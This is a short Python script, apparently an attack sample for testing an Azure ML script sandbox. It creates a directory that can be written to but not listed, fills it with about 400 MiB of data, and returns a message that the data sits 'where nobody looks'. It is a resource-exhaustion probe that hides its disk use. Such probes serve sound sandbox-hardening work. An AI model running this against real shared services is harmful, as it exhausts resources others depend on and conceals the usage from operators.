"""Writes files in a folder that may be entered and not be listed (by itself 400 MB)."""

import os
import time

from attack import exhausting


@exhausting
def azureml_main(dataframe1=None, dataframe2=None):
    os.mkdir("closed")
    os.chmod("closed", 0o300)
    for number in range(100):
        with open(f"closed/{number}", "wb") as stream:
            stream.write(bytes(4 << 20))
    time.sleep(6)
    return "wrote 400 MiB where nobody looks"
